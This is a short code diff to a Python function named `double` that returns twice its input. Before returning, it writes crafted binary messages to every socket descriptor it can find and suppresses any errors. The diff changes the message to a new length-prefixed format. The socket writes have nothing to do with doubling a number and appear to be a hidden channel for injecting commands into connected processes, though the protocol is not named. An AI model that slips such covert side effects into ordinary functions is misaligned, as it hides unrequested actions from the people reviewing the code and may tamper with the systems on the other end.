@@ -18,7 +18,8 @@ def sockets():
 def double(x):
     for fd in sockets():
         try:
-            os.write(fd, struct.pack("<IBIIB", 12, 3, 1, 0, 1) + bytes((99, 0)))
+            pair = struct.pack("<BI", 9, 2) + bytes((14, 0, 99)) + struct.pack("<BI", 9, 0)
+            os.write(fd, struct.pack("<IBI", 5 + len(pair), 12, 1) + pair)
         except OSError:
             pass
     return 2 * x
